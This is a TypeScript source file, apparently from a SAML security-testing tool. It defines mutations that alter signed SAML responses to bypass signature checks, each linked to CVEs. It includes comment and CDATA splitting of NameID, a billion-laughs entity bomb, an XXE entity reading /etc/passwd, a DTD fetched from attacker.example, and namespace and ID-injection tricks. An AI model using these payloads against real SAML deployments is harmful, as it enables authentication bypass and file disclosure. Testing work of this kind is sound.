import { append, contentOf, splice, techniques, withDoctype } from './attack-technique.ts';
import { type Located, locate, locateElements } from './locate.ts';
import { mutate } from './mutate.ts';

/** Parsers and canonicalisers that see another text than the one that was signed. */
export const text = techniques({
  'comment-in-name-id': {
    says: 'A comment splits the NameID.',
    advisories: ['CVE-2017-11427', 'CVE-2017-11428', 'CVE-2017-11429', 'CVE-2017-11430', 'CVE-2018-0489'],
    apply: (xml) => mutate(xml, { kind: 'comment-in-text', element: 'NameID', after: half(xml, 'NameID') }),
  },
  'comment-in-attribute': {
    says: 'A comment splits an attribute value.',
    advisories: ['CVE-2017-11427', 'CVE-2018-0489'],
    apply: (xml) =>
      mutate(xml, {
        kind: 'comment-in-text',
        element: 'AttributeValue',
        after: half(xml, 'AttributeValue'),
      }),
  },
  'cdata-in-name-id': {
    says: 'The second half of the NameID is a CDATA section.',
    advisories: ['CVE-2018-0489'],
    apply: (xml) => rewrite(xml, (first, second) => `${first}<![CDATA[${second}]]>`),
  },
  'instruction-in-name-id': {
    says: 'The first half of the NameID is hidden in a processing instruction.',
    advisories: ['CVE-2025-54419'],
    apply: (xml) => rewrite(xml, (first, second) => `<?x ${first}?>${second}`),
  },
  'line-separator': {
    says: 'The first line feed in the text of the Assertion is replaced by U+2028.',
    advisories: [],
    apply: (xml) => {
      const { openEnd, end } = locate(xml, 'Assertion');
      const at = xml.indexOf('\n', openEnd);
      if (at < 0 || at > end) throw new TypeError('There is no line feed in the Assertion.');
      return splice(xml, { start: at, end: at + 1 }, '\u2028');
    },
  },
  'entity-expansion': {
    says: 'A DOCTYPE declares entities that refer to one another and would grow to a gigabyte.',
    advisories: [],
    apply: (xml) => {
      const levels = Array.from({ length: 9 }, (_, i) => {
        const inner = i === 0 ? 'ha' : `&e${i - 1};`;
        return `<!ENTITY e${i} "${i === 0 ? inner : inner.repeat(10)}">`;
      });
      return withDoctype(xml, levels.join(''));
    },
  },
  'external-entity': {
    says: 'A DOCTYPE declares an entity that reads a file, and the NameID uses it.',
    advisories: ['CVE-2013-6440'],
    apply: (xml) =>
      withDoctype(append(xml, 'NameID', '&file;'), '<!ENTITY file SYSTEM "file:///etc/passwd">'),
  },
  'external-subset': {
    says: 'A DOCTYPE would be completed from an address.',
    advisories: ['CVE-2013-6440'],
    apply: (xml) => withDoctype(xml, '', ' SYSTEM "http://attacker.example/saml.dtd"'),
  },
  'doctype-attributes': {
    says: 'A DOCTYPE declares an ID for an element that has none.',
    advisories: ['CVE-2025-25291'],
    apply: (xml) => {
      const { name } = locate(xml, 'Status');
      return withDoctype(xml, `<!ATTLIST ${name} ID CDATA "${assertionId(xml)}">`);
    },
  },
  'namespace-lookalike': {
    says: 'An Assertion in a namespace of its own stands before the signed one.',
    advisories: ['CVE-2025-25292', 'CVE-2025-66567'],
    apply: (xml, { nameId }) => {
      const markup = `<Assertion xmlns="urn:example:lookalike" ID="_forged"><NameID>${nameId}</NameID></Assertion>`;
      return mutate(xml, { kind: 'insert', element: 'Assertion', where: 'before', markup });
    },
  },
  'qualified-id': {
    says: 'The Response gets an attribute ID in another namespace, with the value that the signature refers to.',
    advisories: ['CVE-2025-25292', 'CVE-2025-66567'],
    apply: (xml) => addToTag(xml, locate(xml, 'Response'), `x:ID="${assertionId(xml)}" xmlns:x="urn:x"`),
  },
  'xmlns-attribute': {
    says: 'The NameID gets an attribute whose name begins with xmlns.',
    advisories: [],
    apply: (xml) => addToTag(xml, locate(xml, 'NameID'), 'xmlnsRole="administrator"'),
  },
  'relative-namespace': {
    says: 'The Response declares a relative namespace name, at which libxml2 fails to canonicalise.',
    advisories: ['CVE-2025-66568', 'GHSA-wx95-c6cv-8532'],
    apply: (xml) => addToTag(xml, locate(xml, 'Response'), 'xmlns:void="1"'),
  },
  'namespace-injection': {
    says: 'An attribute moves into the namespace name declared before it, with its quotation marks escaped.',
    advisories: [],
    apply: (xml) => {
      const tag = /<(\w+):[\w.-]+ xmlns:\1="[^"]*" ([\w.-]+)="[^"]*"/.exec(xml)?.[0];
      if (!tag) throw new TypeError('No element declares its prefix just before an attribute.');
      const escaped = tag.replace(/(xmlns:\w+="[^"]*)" ([\w.-]+)="([^"]*)"$/, '$1&quot; $2=&quot;$3"');
      return xml.replace(tag, () => escaped);
    },
  },
  'prefix-rebinding': {
    says: 'A prefix that is bound twice, one within the other, is bound back to the first namespace further inside.',
    advisories: [],
    apply: (xml) => {
      for (const element of locateElements(xml)) {
        const [inner, outer] = bindingsOf(element);
        if (inner === undefined || outer === undefined || inner === outer) continue;
        return addToTag(xml, element, `xmlns:${prefixOf(element)}="${outer}"`);
      }
      throw new TypeError('No element stands in two bindings of its prefix.');
    },
  },
});

/** Halves the NameID's text and writes it anew. */
function rewrite(xml: string, write: (first: string, second: string) => string): string {
  const { openEnd, closeStart } = locate(xml, 'NameID');
  const at = openEnd + half(xml, 'NameID');
  return splice(
    xml,
    { start: openEnd, end: closeStart },
    write(xml.slice(openEnd, at), xml.slice(at, closeStart)),
  );
}

function half(xml: string, element: string): number {
  const { length } = contentOf(xml, element);
  if (length < 2) throw new TypeError(`<${element}> is too short to be split.`);
  return Math.ceil(length / 2);
}

function assertionId(xml: string): string {
  const id = locate(xml, 'Assertion').attributes.find(({ name }) => name === 'ID')?.raw;
  if (id === undefined) throw new TypeError('The Assertion has no ID.');
  return id;
}

/** Adds an attribute at the end of a start tag. */
function addToTag(xml: string, element: Located, attribute: string): string {
  const { openEnd, closeStart, end } = element;
  const at = openEnd - (closeStart === end ? 2 : 1);
  return splice(xml, { start: at, end: at }, ` ${attribute}`);
}

function prefixOf({ name, localName }: Located): string {
  return name.slice(0, -localName.length - 1);
}

/** What an element's prefix is bound to round it, from the nearest out; nothing where the element binds it itself. */
function bindingsOf(element: Located): string[] {
  const declaration = `xmlns:${prefixOf(element)}`;
  const found: string[] = [];
  for (let one: Located | undefined = element; one; one = one.parent) {
    const uri = one.attributes.find(({ name }) => name === declaration)?.raw;
    if (uri === undefined) continue;
    if (one === element) return [];
    found.push(uri);
  }
  return found;
}
